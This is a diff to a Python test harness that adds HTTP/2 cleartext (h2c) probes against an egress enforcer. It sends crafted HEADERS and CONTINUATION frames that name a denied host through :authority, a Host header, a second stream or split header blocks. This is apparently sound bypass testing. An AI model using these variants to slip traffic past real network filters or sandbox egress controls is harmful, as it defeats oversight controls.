@@ -482,6 +482,56 @@ def t_zerocopy(a):
     read_some(s)
 
 
+def h2_frame(ftype, flags, stream, payload):
+    return struct.pack("!I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack("!I", stream) + payload
+
+
+def hpack_str(v):
+    v = v.encode()
+    assert len(v) < 127
+    return bytes([len(v)]) + v
+
+
+def h2_headers(authority, path, extra=()):
+    """An HPACK block without Huffman or indexing: GET, http, :authority, :path, then extra (name, value) pairs."""
+    block = b"\x82\x86" + b"\x01" + hpack_str(authority) + b"\x04" + hpack_str(path)
+    for n, v in extra:
+        block += b"\x00" + hpack_str(n) + hpack_str(v)
+    return block
+
+
+def t_h2(a):
+    """HTTP/2 with prior knowledge (h2c) on the HTTP port: the enforcer's HTTP/2 reader against requests whose
+    :authority, Host or header-block framing names a denied host."""
+    pre = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
+    ok = h2_frame(1, 0x05, 1, h2_headers(a.host, "/get/%s" % a.control))  # END_STREAM | END_HEADERS
+    evil_path = "/get/%s" % MARKER
+    v = a.variant
+    if v == "authority":
+        flights = [pre + h2_frame(1, 0x05, 1, h2_headers(a.evil, evil_path))]
+    elif v == "second-stream":
+        flights = [pre + ok, h2_frame(1, 0x05, 3, h2_headers(a.evil, evil_path))]
+    elif v == "same-segment":
+        flights = [pre + ok + h2_frame(1, 0x05, 3, h2_headers(a.evil, evil_path))]
+    elif v == "host-header":
+        flights = [pre + h2_frame(1, 0x05, 1, h2_headers(a.host, evil_path, [("host", a.evil)]))]
+    elif v == "continuation":  # :authority allowed in HEADERS, a second :authority in CONTINUATION
+        block = h2_headers(a.host, evil_path) + b"\x01" + hpack_str(a.evil)
+        flights = [pre + h2_frame(1, 0x01, 1, block[:12]) + h2_frame(9, 0x04, 1, block[12:])]
+    elif v == "ok":
+        flights = [pre + h2_frame(1, 0x05, 1, h2_headers(a.host, evil_path))]
+    else:
+        sys.exit("unknown variant " + v)
+    s = connect(a.dst, a.port)
+    for f in flights:
+        try:
+            s.sendall(f)
+        except OSError as e:
+            log("send: %s" % e)
+        time.sleep(0.2)
+    read_some(s, 1.0)
+
+
 def t_reuse(a):
     """Leak 7: an allowed TLS connection the server resets, then a new connection from the same source port whose
     first flight is a ClientHello for a denied name (the marker in its client random and in the name)."""
@@ -621,6 +671,8 @@ def main():
     p.add_argument("--port", type=int, default=443)
     p.add_argument("--pad", type=int, default=0, help="TLS: a padding extension of this many bytes")
     p.add_argument("--sendfile", action="store_true", help="send from a file with sendfile() instead")
+    p = add("h2", t_h2, "dst", "host", "evil", "control", "variant")
+    p.add_argument("--port", type=int, default=80)
     p = add("reuse", t_reuse, "dst", "sni", "evil", "control")
     p.add_argument("--port", type=int, default=443)
     p.add_argument("--hello", default="python")
